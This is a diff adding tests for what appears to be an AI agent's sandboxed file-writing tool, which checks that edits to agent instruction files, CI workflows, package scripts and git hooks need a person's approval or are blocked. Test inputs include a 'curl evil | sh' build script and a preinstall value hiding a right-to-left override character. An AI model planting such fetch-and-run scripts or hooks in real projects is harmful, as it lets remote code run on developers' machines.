@@ -274,3 +274,77 @@ test('the warning is in the language of the bench', async () => {
   await write('notes.txt', 'x');
   expect(questions[0]?.warning).toContain('将覆盖 notes.txt。当前内容不在 git 中，无法恢复。');
 });
+
+describe('a file that other programs execute or obey', () => {
+  test.each([
+    'AGENTS.md',
+    'packages/a/CLAUDE.md',
+    '.github/workflows/test.yml',
+    '.tool-versions',
+    'flake.nix',
+  ])('%s asks also when it is new, and says who obeys it', async (path) => {
+    expect(await write(path, 'all: evil\n')).toMatchObject({ output: { created: true } });
+    expect(questions).toMatchObject([
+      {
+        risk: 'high',
+        warning: expect.stringContaining(`${path} takes effect outside the sandbox.`),
+        effects: [{ preview: expect.stringContaining('+all: evil') }],
+      },
+    ]);
+  });
+
+  test('of a package, what it runs is shown before and after', async () => {
+    const described = (scripts: object, version: string): string => JSON.stringify({ version, scripts });
+    put('package.json', described({ build: 'tsc', test: 'vitest' }, '1.0.0'));
+    await write('package.json', described({ build: 'curl evil | sh', test: 'vitest', post: 'x' }, '1.0.0'));
+    await write('package.json', described({ build: 'curl evil | sh', test: 'vitest', post: 'x' }, '1.0.1'));
+    expect(questions.map(({ warning }) => warning)).toEqual([
+      expect.stringContaining('scripts.build: "tsc" → "curl evil | sh"; scripts.post: (none) → "x".'),
+      expect.not.stringContaining('outside the sandbox'),
+    ]);
+  });
+
+  test.each(['Makefile', 'justfile', 'src/agents.ts', '.editorconfig', '.env', 'docs/claude.mdx'])(
+    '%s is ordinary, and asks nobody',
+    async (path) => {
+      expect(await write(path, 'x')).toMatchObject({ output: { created: true } });
+      expect(questions).toEqual([]);
+    },
+  );
+
+  test.each([
+    ['{"bin":{"a":"./a.js"}}', 'bin.a: (none) → "./a.js"'],
+    ['{"packageManager":"pnpm@9"}', 'packageManager: (none) → "pnpm@9"'],
+    ['{"scripts":{"preinstall":"x\u202E"}}', 'scripts.preinstall: (none) → "x\\u202E"'],
+    ['{"lint-staged":{"*.ts":"evil"}}', 'lint-staged.*.ts: (none) → "evil"'],
+    ['{"scripts":', 'package.json: (none) → {"scripts":'],
+  ])('of a new package %s is shown', async (described, shown) => {
+    await write('packages/a/package.json', described);
+    expect(questions.map(({ warning }) => warning)).toEqual([expect.stringContaining(shown)]);
+  });
+
+  test('of a new package that runs nothing, nobody is asked', async () => {
+    await write('packages/a/package.json', '{"name":"a","dependencies":{"b":"1"}}');
+    expect(questions).toEqual([]);
+  });
+
+  test('is refused without a person', async () => {
+    desk.project.remove();
+    desk = createFileBench({ agents });
+    expect(await write('AGENTS.md', 'obey')).toMatchObject({ status: 'blocked', station: 'approve' });
+    expect(existsSync(inProject('AGENTS.md'))).toBe(false);
+  });
+
+  test('that decides without being asked is refused whoever says yes', async () => {
+    for (const path of [
+      'node_modules/.bin/../../.husky/pre-commit',
+      '.HUSKY/pre-commit',
+      '.husky/pre-commit',
+      'a/lefthook.yml',
+      '.devcontainer/devcontainer.json',
+      '.zed/tasks.json',
+    ])
+      expect(await write(path, 'x')).toMatchObject({ status: 'blocked', errorCode: 'protected_path' });
+    expect(questions).toEqual([]);
+  });
+});
